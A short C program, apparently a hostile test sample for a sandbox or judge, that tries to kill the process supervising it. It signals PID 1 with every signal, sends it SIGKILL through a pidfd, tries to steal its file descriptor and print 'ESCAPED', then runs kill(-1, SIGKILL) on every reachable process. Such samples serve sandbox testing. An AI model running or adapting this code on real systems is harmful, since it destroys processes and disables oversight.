// Wants to end the process that watches it.
// attack: c io
#include <signal.h>
#include <unistd.h>
#include <sys/syscall.h>
int main(void) {
  for (int s = 1; s < 65; s++) { kill(1, s); kill(0, 0); }
  int fd = syscall(SYS_pidfd_open, 1, 0);
  syscall(SYS_pidfd_send_signal, fd, SIGKILL, 0, 0);
  if (syscall(SYS_pidfd_getfd, fd, 1, 0) >= 0) write(1, "ESCAPED", 7);
  kill(-1, SIGKILL);
  return 0;
}
